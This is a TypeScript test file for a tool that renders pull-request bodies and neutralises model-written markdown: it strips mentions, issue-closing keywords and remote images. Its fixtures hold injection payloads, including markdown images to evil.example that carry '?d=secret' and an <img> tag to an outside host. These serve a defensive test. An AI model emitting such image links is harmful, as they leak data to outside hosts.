import type { ExecuteOutput } from "../../../src/phases/execute/execute.js";
import type { Plan } from "../../../src/phases/plan/plan-schema.js";
import type { Review } from "../../../src/phases/review/review.js";
import type { VerifyOutput } from "../../../src/phases/verify/verify.js";
import { PR_MARKER, renderPrBody, type PrBodyInput } from "../../../src/report/pr-body.js";
import { neutralizeMarkdown } from "../../../src/safety/markdown.js";

const plan = (over: Partial<Plan> = {}): Plan => ({
  summary: "Make greet() say Hi.",
  steps: ["Change the greeting."],
  files: ["src/greet.js"],
  work_units: [{ id: "greet", title: "Greeting", instructions: "Say Hi.", files: ["src/greet.js"] }],
  test_strategy: "Run the unit tests.",
  acceptance_checks: ["greet('Ada') returns 'Hi Ada'"],
  ...over,
});

const input = (over: Partial<PrBodyInput> = {}): PrBodyInput => ({
  issueNumber: 7,
  plan: plan(),
  execute: {
    units: [{ id: "greet", title: "Greeting", summary: "Changed the greeting to Hi.", changed: true }],
    patch: "",
    changedFiles: ["src/greet.js"],
  } satisfies ExecuteOutput,
  verify: {
    passed: true,
    checks: [{ argv: ["node", "--test", "test/"], exitCode: 0, timedOut: false, durationMs: 1_200, excerpt: "" }],
  } satisfies VerifyOutput,
  review: { verdict: "approve", summary: "Looks right.", findings: [] } satisfies Review,
  costTable:
    '| Phase | Cost |\n|---|---:|\n| plan | $0.10 |\n\n```mermaid\npie showData title Cost by phase (USD)\n    "plan" : 0.1000\n```',
  costs: [],
  iterations: 1,
  ...over,
});

describe("the PR body", () => {
  it("neutralises what a model wrote: no pings, no other issue closed, no remote image", () => {
    const body = renderPrBody(
      input({
        plan: plan({
          summary: "@octocat please look. Fixes #99. ![x](https://evil.example/p.png?d=secret)",
          steps: ["Ask @hubot", "```\n@inside-a-fence-that-never-closes"],
          test_strategy: "closes owner/repo#5 <img src=https://t.example/p.gif>",
          acceptance_checks: ["`greet` works, resolves #8"],
        }),
        execute: {
          units: [{ id: "greet", title: "Greet @team/all", summary: "Done, fixed #10.", changed: true, conflicts: ["@weird.ts"] }],
          patch: "",
          changedFiles: ["src/greet.js"],
        },
        verify: {
          passed: false,
          checks: [{ argv: ["npm", "test"], exitCode: 1, timedOut: false, durationMs: 900, excerpt: "" }],
          triage: { summary: "Blame @octocat", findings: [] },
        },
        review: {
          verdict: "request_changes",
          summary: "See ![t](https://evil.example/t.png)",
          findings: [{ file: "a` @x `b", line: 3, severity: "blocking", body: "ping @y" }],
        },
      }),
    );
    expect(body).toContain("`@octocat` please look. Refs #99. (image removed: evil.example)");
    expect(body).not.toMatch(/secret|https:\/\/evil|https:\/\/t\.example|<img/);
    expect(body).toContain("1. Ask `@hubot`");
    expect(body).toContain("**Test strategy:** refs owner/repo#5 (image removed: t.example)");
    expect(body).toContain("- `greet` works, refs #8");
    expect(body).toContain("- **Greet `@team/all`**: Done, refs #10. _(redone after a conflict in `@weird.ts`)_");
    expect(body).toContain("**Triage:** Blame `@octocat`");
    expect(body).toContain("ping `@y`");
    // no mention is left outside code, whatever a field did to the backticks around it
    for (const line of body.split("\n")) {
      const outsideCode = line
        .replace(/\\`/g, "")
        .replace(/(`+)[^`]*?\1/g, "")
        .replace(/<code>.*?<\/code>/g, "");
      expect(outsideCode).not.toMatch(/(^|[^A-Za-z0-9])@[A-Za-z0-9]/);
    }
    // the fence a step opened is closed where the step ends: the rest of the body is markdown
    expect(body).toContain("## Verification");
    expect(body.trimEnd().endsWith("Closes #7")).toBe(true);
    expect(body.match(/Closes #7/g)).toHaveLength(1);
  });

  it("leaves Tollgate's own text as it was", () => {
    const body = renderPrBody(input());
    expect(body.startsWith(`${PR_MARKER}\n## Summary\n\nMake greet() say Hi.`)).toBe(true);
    expect(body).toContain("- **Greeting**: Changed the greeting to Hi.");
    expect(body).toContain("<details><summary>Plan</summary>\n\n1. Change the greeting.\n\n**Test strategy:** Run the unit tests.");
    expect(body).toContain("| `node --test test/` | ✅ passed | 1.2s |");
    expect(body).toContain('```mermaid\npie showData title Cost by phase (USD)\n    "plan" : 0.1000\n```');
    expect(body.endsWith("Closes #7")).toBe(true);
    expect(neutralizeMarkdown(body, { allowIssue: 7 })).toBe(body);
  });
});
